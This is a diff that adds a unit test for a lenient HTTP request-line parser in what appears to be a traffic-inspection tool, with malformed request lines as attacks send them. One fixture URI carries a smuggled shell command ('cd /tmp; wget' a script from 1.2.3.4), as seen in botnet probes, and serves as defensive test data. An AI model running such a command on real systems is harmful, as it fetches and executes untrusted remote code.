@@ -520,6 +520,49 @@ test_http_response(void **state)
 			 VIGIL_L7_HTTP);
 }
 
+/* Request lines as attacks send them: runs of spaces, a space inside the
+ * target, characters after the version's digits, a tab before the version
+ * and a space after it. */
+static void
+test_http_lenient_request_line(void **state)
+{
+	static const char *const lines[][3] = {
+		{ "GET    /aaa_very_long_uri HTTP/1.1\r\nHost: a\r\n\r\n",
+		  "/aaa_very_long_uri", "a" },
+		{ "GET /shell?cd+/tmp;wget+ http://1.2.3.4/x.sh HTTP/1.1\r\n"
+		  "Host: b\r\n\r\n",
+		  "/shell?cd+/tmp;wget+ http://1.2.3.4/x.sh", "b" },
+		{ "GET /w.php?x=1 HTTP/1.0.8\r\nHost: c\r\n\r\n", "/w.php?x=1",
+		  "c" },
+		{ "GET /t\tHTTP/1.1 \r\nHost: d\r\n\r\n", "/t", "d" },
+	};
+	struct vigil_http_req h;
+	struct vigil_l7_ret r;
+
+	(void)state;
+	for (unsigned i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
+		r = vigil_http_parse_request((const uint8_t *)lines[i][0],
+					     (uint32_t)strlen(lines[i][0]), &h);
+		assert_int_equal(r.rc, VIGIL_L7_DONE);
+		STR_EQ(h.method, "GET");
+		STR_EQ(h.uri, lines[i][1]);
+		STR_EQ(h.host, lines[i][2]);
+		assert_int_equal(h.version_major, 1);
+	}
+	/* No version: HTTP/0.9, the whole rest is the target. */
+	r = vigil_http_parse_request((const uint8_t *)"GET /a b\r\n", 10, &h);
+	assert_int_equal(r.rc, VIGIL_L7_DONE);
+	STR_EQ(h.uri, "/a b");
+	assert_int_equal(h.version_minor, 9);
+	/* Nothing after the method. */
+	r = vigil_http_parse_request((const uint8_t *)"GET   \r\n\r\n", 10, &h);
+	assert_int_equal(r.why, VIGIL_L7_WHY_HTTP_BAD_REQUEST_LINE);
+	/* HTTP/2's preface is not HTTP/1. */
+	r = vigil_http_parse_request(
+		(const uint8_t *)"GET / HTTP/2.0\r\n\r\n", 18, &h);
+	assert_int_equal(r.why, VIGIL_L7_WHY_HTTP_BAD_REQUEST_LINE);
+}
+
 static void
 test_http_bad(void **state)
 {
@@ -1709,6 +1752,7 @@ main(void)
 		cmocka_unit_test(test_http_request),
 		cmocka_unit_test(test_http_response),
 		cmocka_unit_test(test_http_bad),
+		cmocka_unit_test(test_http_lenient_request_line),
 		cmocka_unit_test(test_tls_grease_ja3_ja4),
 		cmocka_unit_test(test_tls_openssl_hello),
 		cmocka_unit_test(test_tls_split_hello),
